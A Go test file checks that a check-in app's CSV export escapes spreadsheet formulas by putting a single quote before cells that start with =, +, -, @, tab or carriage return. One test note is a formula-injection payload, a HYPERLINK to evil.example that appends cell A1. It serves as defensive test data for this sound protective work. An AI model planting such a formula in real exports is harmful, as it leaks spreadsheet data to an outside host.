package coach

import (
	"encoding/csv"
	"strings"
	"testing"
)

func TestCSVCellsCannotRunAsFormulas(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://example.com/x","click")`, `'=HYPERLINK("http://example.com/x","click")`},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"a quiet day = a good day", "a quiet day = a good day"},
		{"2026-03-02", "2026-03-02"},
		{"25", "25"},
		{"", ""},
		{" =1+1", " =1+1"}, // a leading space: spreadsheets read it as text
	}
	for _, tt := range tests {
		if got := csvCell(tt.in); got != tt.want {
			t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestCheckInsCSVWritesANoteAsText(t *testing.T) {
	note := `=HYPERLINK("http://evil.example/?"&A1,"help")`
	data := checkInsCSV([]CheckIn{{Day: "2026-03-02", Mood: 2, Note: note}})
	rows, err := csv.NewReader(strings.NewReader(string(data))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("rows = %v, %v", rows, err)
	}
	if got := rows[1][6]; got != "'"+note {
		t.Errorf("note cell = %q, want it behind a single quote", got)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
		}
	}
}
